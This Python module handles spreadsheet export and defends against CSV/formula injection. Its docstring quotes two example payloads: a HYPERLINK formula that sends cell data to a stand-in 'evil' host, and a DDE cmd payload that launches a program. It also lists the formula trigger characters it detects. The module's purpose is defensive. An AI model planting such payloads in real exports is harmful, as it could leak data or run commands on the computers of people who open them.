"""What a spreadsheet cell of the comparison shows, and text a spreadsheet must not execute.

Shared by the CSV and XLSX exports: each column has a kind (a rating, a count, a date, ...)
that decides how its values are written in the UI language. User text is written exactly as
typed, with one exception for safety: text that a spreadsheet would read as a formula.

Formula injection (OWASP, "CSV Injection"): a cell whose text begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is evaluated by Excel and LibreOffice as a formula, so a
case titled ``=HYPERLINK("http://evil/?"&A1, "klikk")`` could leak data or run commands
(``+cmd|' /C calc'!A0``). In XLSX such text is stored as a string cell with the "quote
prefix" style, which keeps the text unchanged and tells the spreadsheet it is text even when
edited. CSV has no types, so OWASP's remedy is applied: a single quote is put before the text
(the spreadsheet hides it and shows the text; other programs see the quote). Everything else,
Sami letters, right-to-left text, emoji, passes through unchanged.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

import pandas as pd

from impactapp.domain.model import NOT_RELEVANT, UNKNOWN, Catalog

from .labels import CONTRIBUTION_WORDS, depth_word, status_word, word

#: First characters that make a spreadsheet treat a cell's text as a formula (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
UNKNOWN_MARK = "?"
NOT_RELEVANT_MARK = "\u2013"  # en dash, as the UI shows "not relevant"

_BOOLEAN = {"exempt", "recommended", "ghg_quantifiable", "trade_offs_handled"}
_NUMBER = {
    "ghg_tonnes", "investment_nok", "annual_nok", "tonnes_co2e", "tonnes_in_force", "net", "value",
}
_INTEGER = {
    "case_id", "revision", "ghg_from_year", "knowledge_gaps", "trade_offs",
    "trade_offs_unhandled", "cases", "positive_cases", "negative_cases", "mixed_cases",
    "mitigated", "not_mitigated", "goal", "year",
}
_COUNTS = {"positive", "negative", "zero", "unknown"}
# XML 1.0 (and so XLSX) cannot hold these control characters at all.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would evaluate ``text`` as a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_safe(text: str) -> str:
    """``text`` for a CSV cell: a quote before formula-like text, otherwise unchanged."""
    return QUOTE + text if looks_like_formula(text) else text


def xml_safe(text: str) -> str:
    """``text`` without the control characters XLSX cannot store (shown as U+FFFD)."""
    return _NOT_IN_XML.sub("\ufffd", text)


def column_kind(column: str, catalog: Catalog) -> str:
    """How a column's values are written: rating, raw, extreme, count, contribution, status,
    depth, date, bool, number, integer or text."""
    if column in catalog.criteria:
        return "rating"
    if "@" in column and column.split("@", 1)[0] in catalog.criteria:
        return "raw"
    head, _, tail = column.partition(":")
    if head == "sdg" and tail.isdigit():
        return "contribution"
    if head in catalog.pillars:
        return "extreme" if tail in ("min", "max") else "count" if tail in _COUNTS else "text"
    if column in ("status", "depth"):
        return column
    if column == "decision_date":
        return "date"
    if column in _BOOLEAN:
        return "bool"
    if column in _NUMBER:
        return "number"
    if column in _INTEGER:
        return "integer"
    return "text"


def column_kinds(columns: Iterable[str], catalog: Catalog) -> dict[str, str]:
    """Column id -> kind, for every column."""
    return {c: column_kind(c, catalog) for c in columns}


def is_missing(value: Any) -> bool:
    """NA, None or NaN (a rating column also holds strings, which are never missing)."""
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def decimal_text(value: float, lang: str, decimals: int = 2) -> str:
    """A plain number a spreadsheet reads back: no grouping, the language's decimal mark."""
    rounded = round(float(value), decimals)
    if rounded == 0:
        rounded = 0.0  # no "-0"
    text = f"{rounded:.{decimals}f}".rstrip("0").rstrip(".") if decimals else f"{rounded:.0f}"
    return text.replace(".", ",") if lang == "nb" else text


def date_text(value: date | datetime, lang: str) -> str:
    """26.11.2026 in Norwegian (Norwegian spreadsheets read it as a date), ISO in English."""
    day = value.date() if isinstance(value, datetime) else value
    return f"{day.day:02d}.{day.month:02d}.{day.year}" if lang == "nb" else day.isoformat()


def word_value(value: Any, kind: str, lang: str) -> str | None:
    """The word a status, depth, yes/no, contribution or special rating is written as, or
    None when the value is written as a number or as text."""
    if kind == "status":
        return status_word(str(value), lang)
    if kind == "depth":
        return depth_word(str(value), lang)
    if kind == "bool":
        return word("yes" if bool(value) else "no", lang)
    if kind == "contribution":
        text = CONTRIBUTION_WORDS.get(str(value))
        return text.get(lang) if text else str(value)
    if kind in ("rating", "raw"):
        if value == UNKNOWN:
            return UNKNOWN_MARK
        if value == NOT_RELEVANT:
            return NOT_RELEVANT_MARK
    return None


def csv_cell(value: Any, kind: str, lang: str) -> str:
    """One value as the text of a CSV cell."""
    if is_missing(value):
        return ""
    named = word_value(value, kind, lang)
    if named is not None:
        return named
    if kind == "date":
        return date_text(value, lang)
    if kind in ("rating", "raw", "extreme", "number"):
        return decimal_text(value, lang)
    if kind in ("count", "integer"):
        return str(int(value))
    return csv_safe(str(value))
